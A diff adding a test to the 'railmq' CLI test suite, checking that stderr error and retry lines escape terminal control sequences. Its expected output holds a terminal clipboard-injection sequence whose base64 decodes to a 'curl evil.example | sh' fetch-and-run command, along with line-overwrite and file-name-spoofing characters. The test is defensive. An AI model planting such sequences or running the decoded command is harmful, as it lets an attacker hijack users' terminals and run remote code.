@@ -20,10 +20,11 @@ from rich.console import Console
 from actors.messages import GroupSummary
 from railmq import cli_dlq, cli_groups
 from railmq.cli_groups import render_group_lag
-from railmq.cli_common import record_to_json, record_to_line
+from railmq.cli_common import print_error, record_to_json, record_to_line
 from railmq.cli_format import compile_format, record_renderer
 from railmq.dlq import DeadLetter
 from railmq.lag import GroupLag, MemberLag, PartitionLag
+from railmq.member_notices import Notices, retry_line
 from railmq.member_options import MemberOptions, make_delivery
 from railmq.records import ConsumerRecord
 
@@ -195,3 +196,20 @@ def test_a_group_member_printing_to_a_terminal_escapes_controls_in_its_format():
     assert_inert(screen.getvalue())
     assert screen.getvalue().startswith("line one\n\\x1b[2J")
     assert pipe.getvalue() == f"line one\n{CLEAR_SCREEN}\tend\n"
+
+
+# --------------------------------------------------------------------------- stderr
+
+
+def test_error_lines_show_a_servers_or_handlers_controls_as_escapes(capsys):
+    """An error's sentence comes from whoever answered (any local process can take a port a
+    leader had: docs/security.md) or from the user's handler, which may quote a record. Both
+    sinks of stderr lines, `print_error` and a member's notices, printed them raw."""
+    print_error("NOT_LEADER", f"ask elsewhere {CLIPBOARD}{OVERWRITE}")
+    Notices()(retry_line("orders/0@4", 1, 3, 100, ValueError(f"bad order {CLEAR_SCREEN}{REVERSED}")))
+    printed = capsys.readouterr().err
+    assert_inert(printed)
+    assert printed == ("error: NOT_LEADER: ask elsewhere \\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07"
+                       "victim\\rattacker\n"
+                       "retrying orders/0@4 in 100 ms (attempt 1 of 3 failed: ValueError: bad order "
+                       "\\x1b[2J\\x1b[H\\u202eexe.txt)\n")
